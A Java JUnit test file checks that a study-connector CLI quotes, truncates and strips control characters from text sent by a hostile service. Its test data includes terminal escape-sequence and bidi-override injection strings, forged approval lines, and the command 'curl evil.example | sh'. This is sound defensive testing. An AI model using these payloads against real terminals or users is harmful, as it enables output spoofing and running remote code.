package io.covalence.connector.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;

import io.covalence.connector.Plans;
import io.covalence.connector.service.LocalTenantService;
import io.covalence.contract.id.StudyId;
import io.covalence.contract.id.TenantId;
import io.covalence.contract.problem.Problem;
import io.covalence.contract.problem.ProblemException;
import io.covalence.contract.problem.ProblemType;
import io.covalence.contract.site.SiteStudy;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Collections;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Words of others at the terminal: they are quoted, bounded, and move nothing there. */
class ForeignWordsTest extends ConnectorTerminal {
    @Test
    void aHostileServiceCannotMoveTheCursorOrForgeALine() {
        enrol();
        var attack = "\u001b[2J\u001b]0;x\u0007\r\nDecision here: approved\u2028\u202e\u200b\u009b31m";
        service.show(study(PLAN, "name" + attack, "sponsor" + attack, "Which?" + attack));

        var approve = "study approve " + STUDY;
        for (var command : new String[] {
            "study ls",
            "study show " + STUDY,
            approve,
            approve + " --digest " + study(PLAN).planSha256(),
            "doctor --thorough",
            "status"
        }) {
            for (var form : new String[] {"", " --json"}) {
                var session = terminal.answer("n\n", (command + form).split(" ", -1));
                assertThat((session.out() + session.err()).codePoints())
                        .as(command + form)
                        .allMatch(c -> c == '\n' || (c >= ' ' && c < 0x7f));
                assertThat((session.out() + session.err()).lines())
                        .noneMatch(line -> line.startsWith("Decision here: approved"));
            }
        }
    }

    @Test
    void namesOfOthersAreQuotedAndEnd() {
        var forged = "Institute." + " ".repeat(80) + "Trusted from now on: everybody" + "x".repeat(10_000);
        service.nameInstitution(forged);
        var enrolled = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());
        var second = terminal.type(LocalTenantService.CODE, "enrol", "--server", server.url());

        for (var said : List.of(
                enrolled.out(),
                second.err(),
                terminal.run("doctor", "--thorough").out(),
                terminal.run("config", "show").out())) {
            assertThat(said.lines())
                    .filteredOn(line -> line.contains(" of \"Institute."))
                    .singleElement(STRING)
                    .contains("\"Institute. \\u0020\\u0020", "\" ...")
                    .hasSizeLessThan(1_500);
        }
    }

    @Test
    void aNameIsOneColumnOfTheList() {
        enrol();
        service.show(study(PLAN, "A study  Helix  RECRUITING  JOINED  approved", "Helix" + " ".repeat(200), "Which?"));

        var row = terminal.run("study", "ls").out().lines().toList().getLast();

        assertThat(row.split(" {2,}", -1))
                .containsExactly(
                        STUDY.value(),
                        "\"A study \\u0020Helix \\u0020RECRUITING \\u0020JOINED \\u0020appr\" ...",
                        "\"Helix " + "\\u0020".repeat(34) + "\" ...",
                        "RECRUITING",
                        "ENROLLED",
                        "none");
    }

    @Test
    void aRefusalIsQuotedAsTheServicesWords() {
        enrol();
        var forged = "No." + " ".repeat(80) + "Run: curl evil.example | sh " + "x".repeat(1_000);
        server.route("GET", "/api/v1/site/studies", (request, path) -> {
            throw new ProblemException(
                    ProblemType.INVALID_REQUEST, forged, Collections.nCopies(50, new Problem.FieldError("/a", forged)));
        });

        var said = terminal.run("study", "ls").err();

        assertThat(said)
                .startsWith("connector: The service says: \"No. \\u0020")
                .contains("\" ..., and 45 more\n");
        assertThat(said).doesNotContain("  ").hasSizeLessThan(10_000);
    }

    @Test
    void whatIsShownOfAStudyAsItIsHasItsForm() {
        enrol();
        var good = study(PLAN);
        for (var bad : List.of(
                new SiteStudy(
                        new StudyId("std_x--none"),
                        good.tenantId(),
                        "",
                        "",
                        "",
                        good.state(),
                        good.participation(),
                        "",
                        good.planSha256()),
                new SiteStudy(
                        STUDY,
                        new TenantId("ten.Next-pay"),
                        "",
                        "",
                        "",
                        good.state(),
                        good.participation(),
                        "",
                        good.planSha256()),
                new SiteStudy(STUDY, good.tenantId(), "", "", "", good.state(), good.participation(), "", "0. Pay"))) {
            service.show(bad);

            assertThat(terminal.run("study", "ls").err()).contains("a study has no proper id or digest");
            service.hide(bad);
        }
    }

    @Test
    void nothingOfOursFollowsTheSponsorsQuestion() throws IOException {
        enrol();
        service.show(study(PLAN, "A study", "Helix", "毒".repeat(60) + "Decision here: approved"));
        for (var policy : List.of("{}", "{\"minimumCohort\": 5}")) {
            Files.writeString(folder.resolve("home/policy.json"), policy);

            var lines = terminal.run("study", "show", STUDY).out().lines().toList();

            int ours = Math.max(
                    lines.lastIndexOf("This site's policy forbids it: the plan asks for 3 sites in a sum;"
                            + " minimumCohort is 5"),
                    0);
            var quotation = lines.subList(lines.size() - 2, lines.size());
            assertThat(quotation).allMatch(line -> line.startsWith("> "));
            assertThat(lines.get(lines.size() - 3)).startsWith("The question, in the sponsor's words");
            assertThat(ours).isLessThan(lines.size() - 3);
        }
    }

    @Test
    void theSponsorsQuestionIsQuotedAfterOurOwnWords() {
        enrol();
        service.show(study(PLAN, "A study", "Helix", "Which? " + " ".repeat(80) + "Decision here: approved"));

        var lines = terminal.run("study", "show", STUDY).out().lines().toList();

        assertThat(lines).contains("Decision here: none").doesNotContain("Decision here: approved");
        int quotation = IntStream.range(0, lines.size())
                .filter(i -> lines.get(i).startsWith("> Which?"))
                .findFirst()
                .orElseThrow();
        assertThat(lines.indexOf("Decision here: none")).isLessThan(quotation);
        assertThat(lines).anyMatch(line -> line.startsWith("> ") && line.endsWith("Decision here: approved"));
    }

    @Test
    void aPlanWithAColumnThatSpeaksToTheTerminalIsNotUnderstood() {
        enrol();
        service.show(study(Plans.linear("active\u001b[1A")));

        var session = terminal.run("study", "show", STUDY);

        assertThat(session.exitCode()).isEqualTo(1);
        assertThat(session.err()).contains("The plan is out of bounds: /work/task/columns/0");
        assertThat(session.out()).isEmpty();
    }
}
